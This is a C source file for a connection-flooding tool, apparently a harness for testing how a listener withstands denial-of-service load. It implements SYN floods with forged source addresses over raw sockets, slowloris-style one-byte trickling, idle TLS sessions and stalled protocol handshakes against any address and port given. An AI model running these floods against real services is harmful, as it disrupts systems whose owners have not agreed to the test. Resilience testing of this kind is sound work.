// Floods a listener with connections, until its standard input ends; then it prints its counts.
//
//   flood KIND ADDRESS PORT HOLD RATE LIMIT [FIRST COUNT]
//     KIND     syn: half a connection each, from FIRST on, where no device is
//              close: connected and closed; silent: only connected; trickle: one byte a second
//              tls: silent after the TLS handshake; share: silent after HELLO_C and PAIR_A
//     HOLD     how many simultaneous connections there are: a dropped one is dialled again at once
//     RATE     how many are begun per second; 0: as many as possible
//     LIMIT    how many are begun at all; 0: no end
//     FIRST    connections come from COUNT addresses, from this one on, in turn;
//              ADDRESS and FIRST are both IPv4 or both IPv6
//
// It says how many were begun, came up, were dropped by the other end, did not come up, and came
// through TLS.

#include "attack_tls.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum kind { SYN, CLOSE, SILENT, TRICKLE, TLS, SHARE };
static const char *const kinds[] = {"syn", "close", "silent", "trickle", "tls", "share"};

enum stage { FREE, CONNECTING, HANDSHAKE, HELD };

struct slot {
    int socket;
    enum stage stage;
    SSL *tls;
    double since, spoken;
};

static enum kind kind;
static struct sockaddr_storage target, first;
static socklen_t size;
static uint32_t count, next;
static long hold, limit;
static double rate;
static int poller;
static SSL_CTX *context;
static struct slot *slots;
static long begun, connected, dropped, refused, shaken;

// How long a connection may take to come up, in seconds; then another is tried.
static double patience = 1;

// HELLO_C, and PAIR_A with the generator for a share.
static const unsigned char share[] =
    "\x01\x00\x0bPEER\x02\x02\x01\x00\x00\x00\x00"
    "\x03\x00\x41\x04"
    "\x6b\x17\xd1\xf2\xe1\x2c\x42\x47\xf8\xbc\xe6\xe5\x63\xa4\x40\xf2\x77\x03\x7d\x81\x2d\xeb\x33\xa0\xf4\xa1\x39\x45\xd8\x98\xc2\x96"
    "\x4f\xe3\x42\xe2\xfe\x1a\x7f\x9b\x8e\xe7\xeb\x4a\x7c\x0f\x9e\x16\x2b\xce\x33\x57\x6b\x31\x5e\xce\xcb\xb6\x40\x68\x37\xbf\x51\xf5";

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + 1e-9 * (double)time.tv_nsec;
}

static struct sockaddr_storage address(const char *text, int port) {
    struct sockaddr_storage address = {0};
    struct sockaddr_in *four = (struct sockaddr_in *)&address;
    struct sockaddr_in6 *six = (struct sockaddr_in6 *)&address;
    // The port has the same position in both.
    four->sin_port = htons((uint16_t)port);
    address.ss_family = strchr(text, ':') == NULL ? AF_INET : AF_INET6;
    if (inet_pton(address.ss_family, text, address.ss_family == AF_INET ? (void *)&four->sin_addr : (void *)&six->sin6_addr) != 1)
        fail(text);
    return address;
}

// The next address to come from: both kinds count in their last 32 bits.
static struct sockaddr_storage source(void) {
    struct sockaddr_storage address = first;
    unsigned char *last = address.ss_family == AF_INET ? (unsigned char *)&((struct sockaddr_in *)&address)->sin_addr
                                                       : ((struct sockaddr_in6 *)&address)->sin6_addr.s6_addr + 12;
    uint32_t number;
    memcpy(&number, last, 4);
    number = htonl(ntohl(number) + next++ % count);
    memcpy(last, &number, 4);
    return address;
}

static void leave(struct slot *slot) {
    if (slot->tls != NULL) SSL_free(slot->tls);
    slot->tls = NULL;
    // Without a bound on the rate no port may rest.
    struct linger at_once = {1, 0};
    if (rate == 0) setsockopt(slot->socket, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
    close(slot->socket);
    slot->stage = FREE;
}

static void begin(struct slot *slot) {
    int one = 1;
    slot->socket = socket(target.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (slot->socket < 0) fail("socket");
    setsockopt(slot->socket, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    if (count > 0) {
        struct sockaddr_storage own = source();
        setsockopt(slot->socket, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
        // A whole network without devices may be routed here.
        setsockopt(slot->socket, IPPROTO_IP, IP_FREEBIND, &one, sizeof one);
        if (bind(slot->socket, (struct sockaddr *)&own, size) < 0) fail("bind");
    }
    begun++;
    slot->stage = CONNECTING;
    slot->since = slot->spoken = now();
    if (connect(slot->socket, (struct sockaddr *)&target, size) < 0 && errno != EINPROGRESS) {
        refused++;
        leave(slot);
        return;
    }
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET, .data.ptr = slot};
    if (epoll_ctl(poller, EPOLL_CTL_ADD, slot->socket, &event) < 0) fail("epoll");
}

static void drop(struct slot *slot) {
    dropped++;
    leave(slot);
}

// Reads from the other end until it has ended.
static void hear(struct slot *slot) {
    char bytes[4096];
    while (true) {
        if (slot->tls != NULL) {
            ERR_clear_error();
            int got = SSL_read(slot->tls, bytes, sizeof bytes);
            if (got > 0) continue;
            if (SSL_get_error(slot->tls, got) != SSL_ERROR_WANT_READ) drop(slot);
            return;
        }
        ssize_t got = recv(slot->socket, bytes, sizeof bytes, 0);
        if (got > 0) continue;
        if (got == 0 || (errno != EAGAIN && errno != EINTR)) drop(slot);
        return;
    }
}

static void shake(struct slot *slot) {
    ERR_clear_error();
    int result = SSL_connect(slot->tls);
    if (result == 1) {
        shaken++;
        slot->stage = HELD;
        if (kind == SHARE) SSL_write(slot->tls, share, sizeof share - 1);
        hear(slot);
        return;
    }
    int error = SSL_get_error(slot->tls, result);
    if (error != SSL_ERROR_WANT_READ && error != SSL_ERROR_WANT_WRITE) drop(slot);
}

static void arrive(struct slot *slot) {
    int error = 0;
    socklen_t size = sizeof error;
    getsockopt(slot->socket, SOL_SOCKET, SO_ERROR, &error, &size);
    if (error != 0) {
        refused++;
        leave(slot);
        return;
    }
    connected++;
    if (kind == CLOSE) {
        leave(slot);
        return;
    }
    slot->stage = HELD;
    if (kind == TLS || kind == SHARE) {
        slot->stage = HANDSHAKE;
        slot->tls = SSL_new(context);
        SSL_set_fd(slot->tls, slot->socket);
        shake(slot);
    }
}

static void happen(struct slot *slot, uint32_t events) {
    if (slot->stage == CONNECTING && (events & (EPOLLOUT | EPOLLERR | EPOLLHUP)) != 0) {
        arrive(slot);
    } else if (slot->stage == HANDSHAKE) {
        shake(slot);
    } else if (slot->stage == HELD && (events & (EPOLLIN | EPOLLRDHUP | EPOLLERR | EPOLLHUP)) != 0) {
        hear(slot);
    }
}

// Events that are not a socket's: connections that do not come up, and bytes that are due.
static void tend(double moment) {
    for (long index = 0; index < hold; index++) {
        struct slot *slot = &slots[index];
        if (slot->stage == CONNECTING && moment - slot->since > patience) {
            refused++;
            leave(slot);
        } else if (slot->stage == HELD && kind == TRICKLE && moment - slot->spoken >= 1) {
            // As the beginning of a TLS record that is long in coming.
            char byte = moment - slot->since < 1.5 ? 22 : moment - slot->since < 3.5 ? 3 : 1;
            slot->spoken = moment;
            if (send(slot->socket, &byte, 1, MSG_NOSIGNAL) < 0) drop(slot);
        }
    }
}

static uint16_t checksum(const void *bytes, size_t size, uint32_t sum) {
    const uint16_t *words = bytes;
    for (size_t index = 0; index < size / 2; index++) sum += words[index];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

// Asks for a connection in the name of a device that will not answer.
static void ask(int raw) {
    struct {
        struct iphdr ip;
        struct tcphdr tcp;
    } packet = {0};
    struct sockaddr_storage from = source();
    struct sockaddr_in *to = (struct sockaddr_in *)&target;
    packet.ip = (struct iphdr){
        .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(sizeof packet),
        .saddr = ((struct sockaddr_in *)&from)->sin_addr.s_addr, .daddr = to->sin_addr.s_addr};
    packet.tcp.source = htons((uint16_t)(1024 + random() % 60000));
    packet.tcp.dest = to->sin_port;
    packet.tcp.seq = (uint32_t)random();
    packet.tcp.doff = 5;
    packet.tcp.syn = 1;
    packet.tcp.window = htons(64240);
    const uint16_t *addresses = (const uint16_t *)&packet.ip.saddr;
    uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof packet.tcp);
    for (int index = 0; index < 4; index++) sum += addresses[index];
    packet.tcp.check = checksum(&packet.tcp, sizeof packet.tcp, sum);
    begun++;
    if (sendto(raw, &packet, sizeof packet, 0, (struct sockaddr *)&target, size) < 0) refused++;
}

static bool is_over(int milliseconds) {
    struct pollfd input = {.fd = 0, .events = POLLIN};
    char byte;
    return poll(&input, 1, milliseconds) > 0 && read(0, &byte, 1) <= 0;
}

int main(int words, char **word) {
    if (words != 7 && words != 9) return 2;
    signal(SIGPIPE, SIG_IGN);
    for (kind = SYN; strcmp(word[1], kinds[kind]) != 0; kind++)
        if (kind == SHARE) return 2;
    target = address(word[2], atoi(word[3]));
    size = target.ss_family == AF_INET ? sizeof(struct sockaddr_in) : sizeof(struct sockaddr_in6);
    hold = atol(word[4]), rate = atof(word[5]), limit = atol(word[6]);
    if (words == 9) first = address(word[7], 0), count = (uint32_t)atol(word[8]);
    // A flood that only needs many connections does not wait for a full backlog.
    if (kind == CLOSE && rate == 0) patience = 0.05;
    int raw = -1;
    if (kind == SYN && (raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) < 0) fail("raw socket");
    context = new_context(false, EVP_EC_gen("P-256"));
    slots = calloc((size_t)hold, sizeof *slots);
    poller = epoll_create1(EPOLL_CLOEXEC);
    double start = now(), tended = start, asked = start;
    long free = 0;
    while (true) {
        double moment = now();
        if (moment - asked > 0.02) {
            asked = moment;
            if (is_over(0)) break;
        }
        long due = rate > 0 ? (long)((moment - start) * rate) + 1 - begun : kind == SYN ? 64 : hold;
        if (limit > 0 && due > limit - begun) due = limit - begun;
        if (kind == SYN) {
            while (due-- > 0) ask(raw);
            if (rate > 0) is_over(1);
            continue;
        }
        for (long looked = 0; due > 0 && looked < hold; looked++, free = (free + 1) % hold) {
            if (slots[free].stage != FREE) continue;
            begin(&slots[free]);
            due--;
        }
        if (moment - tended > 0.02) {
            tended = moment;
            tend(moment);
        }
        struct epoll_event events[256];
        int number = epoll_wait(poller, events, 256, 10);
        for (int index = 0; index < number; index++) happen(events[index].data.ptr, events[index].events);
    }
    printf("%ld %ld %ld %ld %ld\n", begun, connected, dropped, refused, shaken);
    return 0;
}
